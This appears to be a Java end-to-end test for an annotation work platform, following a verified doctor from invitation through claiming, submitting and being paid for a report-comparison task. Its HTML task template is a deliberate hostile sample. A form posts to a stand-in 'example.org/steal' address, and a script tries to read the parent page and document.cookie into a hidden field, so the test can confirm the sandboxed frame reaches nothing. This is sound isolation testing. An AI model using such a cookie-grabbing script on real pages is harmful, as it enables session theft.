package org.honorarium.journey;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.assertions.PlaywrightAssertions;
import jakarta.json.Json;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import java.util.UUID;
import org.honorarium.session.Browser;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer.OrderAnnotation;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * A doctor's whole way: claims a degree, is verified, found and invited, accepts, claims a task at
 * a price, works on it, hands it in, and earns what was quoted.
 */
@TestMethodOrder(OrderAnnotation.class)
class WorkJourney {

    private static final String SUFFIX = Long.toString(System.nanoTime(), 36).toUpperCase();
    private static final UUID KEY = UUID.randomUUID();
    private static final String TEMPLATE =
            """
            <h2>Which report is better?</h2>
            <p id="left">${left}</p><p id="right">${right}</p>
            <form action="https://example.org/steal" method="post">
              <label><input type="radio" name="better" value="left" required> Left</label>
              <label><input type="radio" name="better" value="right"> Right</label>
              <label>Why? <textarea name="reason"></textarea></label>
              <input type="submit" value="This one">
            </form>
            <script>
              var reached = 'nothing';
              try { reached = parent.document.title; } catch (refused) { }
              try { reached += document.cookie; } catch (refused) { }
              var input = document.createElement('input');
              input.type = 'hidden'; input.name = 'reached'; input.value = reached;
              document.querySelector('form').appendChild(input);
            </script>
            """;

    private static House house;
    private static Caller operations;
    private static Caller reviewer;
    private static String doctorId;
    private static Caller doctor;
    private static final UUID degree = UUID.randomUUID();

    @BeforeAll
    static void a_project_and_an_annotator() {
        house = new House();
        operations = People.somebody("OPERATIONS");
        reviewer = People.somebody("REVIEWER");
        var register =
                "WorkerId,Name,Email,Country,Town,Currency,AccountKind,RoutingNumber,AccountNumber\n"
                        + "WRK%1$s,A Doctor,,US,Fargo,USD,US_CHECKING,021000021,123456789\n";
        House.imported(
                operations, operations.postCsv("imports/register", register.formatted(SUFFIX)));
        doctorId =
                operations
                        .get("annotators?reference=WRK" + SUFFIX)
                        .json()
                        .getJsonArray("rows")
                        .getJsonObject(0)
                        .getString("id");
        doctor = People.annotator(doctorId);
    }

    @Test
    @Order(1)
    void operations_open_tasks_with_a_page_a_price_and_a_requirement() {
        ok(
                operations.put(
                        "qualification-types/" + degree,
                        Json.createObjectBuilder()
                                .add("code", "DEGREE-" + SUFFIX)
                                .add("kind", "DEGREE")
                                .add("title", "Degree")
                                .add("description", "Send us your diploma")
                                .add("proof", "STATEMENT")
                                .add("verifiers", Json.createArrayBuilder().add("REVIEWER"))
                                .add("mayBeAskedFor", true)));
        ok(operations.put(project("requirement"), asking()));
        ok(
                operations.put(
                        project("guideline"),
                        Json.createObjectBuilder().add("text", "Read both to the end.")));
        ok(operations.put(project("rate-card"), card()));
        ok(
                operations.put(
                        project("claim-terms"),
                        Json.createObjectBuilder()
                                .add("paused", false)
                                .add("minutes", 45)
                                .add("openClaims", 2)
                                .add("reviewDays", 5)));
        var opened = operations.put(project("open-tasks"), tasks());
        ok(opened);
        assertThat(opened.json().getInt("opened")).isEqualTo(2);
        assertThat(operations.put(project("open-tasks"), tasks()).json().getInt("opened")).isZero();
        var page = project("task-types/%s/template".formatted(opened.json().getString("taskType")));
        var html = Json.createObjectBuilder().add("html", TEMPLATE);
        assertThat(operations.put(page, html).json().getInt("version")).isEqualTo(1);
        assertThat(operations.put(page, html("No form")).status()).isEqualTo(422);
    }

    @Test
    @Order(2)
    void who_is_verified_found_and_invited_can_claim_and_nobody_before() {
        assertThat(claim().status()).isIn(403, 404);
        var id = UUID.randomUUID();
        ok(
                doctor.put(
                        "qualifications/" + id,
                        Json.createObjectBuilder()
                                .add("type", degree.toString())
                                .add("code", "0912")
                                .add("level", 7)
                                .add("statement", "University of Fargo")));
        ok(doctor.put("qualifications/%s/review".formatted(id), nothing()));
        ok(reviewer.put("qualifications/%s/verification".formatted(id), nothing()));
        assertThat(claim().status()).isEqualTo(403);
        assertThat(claim().toString()).contains("tasks/no-member");
        assertThat(operations.get(project("candidates")).json().getJsonArray("rows"))
                .extracting(one -> one.asJsonObject().getString("annotator"))
                .containsExactly(doctorId);

        ok(operations.put(project("calls/" + UUID.randomUUID()), invitation()));
        var mine = doctor.get("me/invitations").list().getJsonObject(0).getString("id");
        ok(
                doctor.put(
                        "me/invitations/%s/answer".formatted(mine),
                        Json.createObjectBuilder().add("answer", "ACCEPTED")));

        var open = doctor.get("me/tasks/open").list().getJsonObject(0);
        assertThat(open.getInt("places")).isEqualTo(2);
        assertThat(open.getBoolean("claimable")).isTrue();
        assertThat(money(open.getJsonObject("quote"), "maximum")).isEqualTo("3.00");
    }

    @Test
    @Order(3)
    void a_claimed_task_is_worked_on_handed_in_accepted_and_earned() {
        var claimed = claim();
        ok(claimed);
        var id = claimed.json().getString("id");
        assertThat(claim().json()).isEqualTo(claimed.json());
        assertThat(claimed.json().getString("html"))
                .contains("&lt;b&gt;Left&lt;/b&gt; 1")
                .doesNotContain("${left}");
        assertThat(money(claimed.json().getJsonObject("quote"), "maximum")).isEqualTo("3.00");
        assertThat(operations.put("me/claims/" + KEY, wanted()).status()).isEqualTo(403);

        var draft =
                Json.createObjectBuilder()
                        .add("answer", Json.createObjectBuilder().add("better", "left"))
                        .add("activeSeconds", 1);
        ok(doctor.put("me/tasks/%s/draft".formatted(id), draft));
        assertThat(doctor.get("me/tasks/" + id).json().getJsonObject("draft").toString())
                .isEqualTo("{\"better\":\"left\"}");

        var handedIn = doctor.put("me/tasks/%s/answer".formatted(id), answer("left"));
        ok(handedIn);
        assertThat(handedIn.json().getString("state")).isEqualTo("SUBMITTED");
        assertThat(doctor.put("me/tasks/%s/answer".formatted(id), answer("left")).json())
                .isEqualTo(handedIn.json());
        assertThat(doctor.put("me/tasks/%s/answer".formatted(id), answer("right")).status())
                .isEqualTo(409);
        ok(
                operations.put(
                        "assignments/%s/decision".formatted(id),
                        Json.createObjectBuilder().add("decision", "ACCEPTED")));

        assertThat(doctor.get("annotators/%s/earnings".formatted(doctorId)).toString())
                .contains("3.00");
        assertThat(doctor.get("me/tasks/" + id).json().getString("state")).isEqualTo("ACCEPTED");
    }

    @Test
    @Order(4)
    void in_a_browser_the_task_stands_in_a_frame_that_reaches_nothing() {
        try (var browser = Browser.speaking("en-US")) {
            var page = browser.page();
            page.navigate("/annotator/projects.xhtml");
            page.fill("[id='signIn:name']", "annotator-" + doctorId);
            page.fill("[id='signIn:password']", People.PASSWORD);
            page.click("[id='signIn:enter']");
            page.click("button:has-text('Claim the next one')");

            var frame = page.frameLocator("#frame");
            PlaywrightAssertions.assertThat(frame.locator("#left")).hasText("<b>Left</b> 2");
            PlaywrightAssertions.assertThat(page.locator("aside"))
                    .containsText("Read both to the end.");
            // The task has a button of its own.
            PlaywrightAssertions.assertThat(page.locator("[id='hand:give']")).isHidden();
            frame.locator("textarea").fill("It says more.");
            // Nothing is chosen yet: the task's own form says so, and nothing is handed in.
            frame.locator("input[type=submit]").click();
            frame.locator("input[value=right]").check();
            frame.locator("input[type=submit]").click();

            PlaywrightAssertions.assertThat(page.locator("#messages")).containsText("Handed in");
            PlaywrightAssertions.assertThat(page.locator("[id='tasks:last']"))
                    .containsText("Waiting for review");
        }
        var second =
                doctor.get("me/tasks/last").list().stream()
                        .map(JsonObject.class::cast)
                        .filter(one -> one.getString("state").equals("SUBMITTED"))
                        .findFirst()
                        .orElseThrow();
        var again =
                Json.createObjectBuilder()
                        .add(
                                "answer",
                                Json.createObjectBuilder()
                                        .add("better", "right")
                                        .add("reason", "It says more.")
                                        .add("reached", "nothing"));
        // The same answer is the same submission, so this is what was handed in.
        ok(doctor.put("me/tasks/%s/answer".formatted(second.getString("id")), again));
    }

    private static Caller.Answer claim() {
        return doctor.put("me/claims/" + KEY, wanted());
    }

    private static JsonObjectBuilder wanted() {
        return Json.createObjectBuilder().add("project", house.project.toString());
    }

    private static JsonObjectBuilder tasks() {
        JsonArrayBuilder tasks = Json.createArrayBuilder();
        for (int i = 1; i <= 2; i++) {
            tasks.add(
                    Json.createObjectBuilder()
                            .add("reference", "pair " + i)
                            .add("priority", 10 - i)
                            .add(
                                    "input",
                                    Json.createObjectBuilder()
                                            .add("left", "<b>Left</b> " + i)
                                            .add("right", "Right " + i)));
        }
        return Json.createObjectBuilder()
                .add(
                        "taskType",
                        Json.createObjectBuilder()
                                .add("reference", "COMPARE")
                                .add("title", "Compare two reports"))
                .add("tasks", tasks);
    }

    /** Two dollars, and half as much again for a doctor. */
    private static JsonObjectBuilder card() {
        var base =
                Json.createObjectBuilder()
                        .add("name", "Base")
                        .add("effect", "ADD")
                        .add("amount", "2.00");
        var premium =
                Json.createObjectBuilder()
                        .add("name", "Degree in medicine")
                        .add(
                                "when",
                                Json.createObjectBuilder()
                                        .add("requirement", asking().build().get("requirement")))
                        .add("effect", "MULTIPLY")
                        .add("amount", "1.5");
        return Json.createObjectBuilder()
                .add("rules", Json.createArrayBuilder().add(base).add(premium));
    }

    private static JsonObjectBuilder answer(String better) {
        return Json.createObjectBuilder()
                .add("answer", Json.createObjectBuilder().add("better", better));
    }

    private static JsonObjectBuilder asking() {
        var code =
                Json.createObjectBuilder()
                        .add("comparator", "UNDER")
                        .add("values", Json.createArrayBuilder().add("0912"));
        return Json.createObjectBuilder()
                .add(
                        "requirement",
                        Json.createObjectBuilder()
                                .add("type", "DEGREE-" + SUFFIX)
                                .add("code", code))
                .add("otherwise", "SEE");
    }

    private static JsonObjectBuilder invitation() {
        return Json.createObjectBuilder()
                .add("places", 1)
                .add("terms", "Compare reports")
                .add("annotators", Json.createArrayBuilder().add(doctorId));
    }

    private static JsonObjectBuilder html(String html) {
        return Json.createObjectBuilder().add("html", html);
    }

    private static JsonObjectBuilder nothing() {
        return Json.createObjectBuilder();
    }

    private static String money(JsonObject quote, String part) {
        return quote.getJsonObject(part).getString("value");
    }

    private static String project(String path) {
        return "projects/%s/%s".formatted(house.project, path);
    }

    private static void ok(Caller.Answer answer) {
        assertThat(answer.status()).as(answer.toString()).isBetween(200, 204);
    }
}
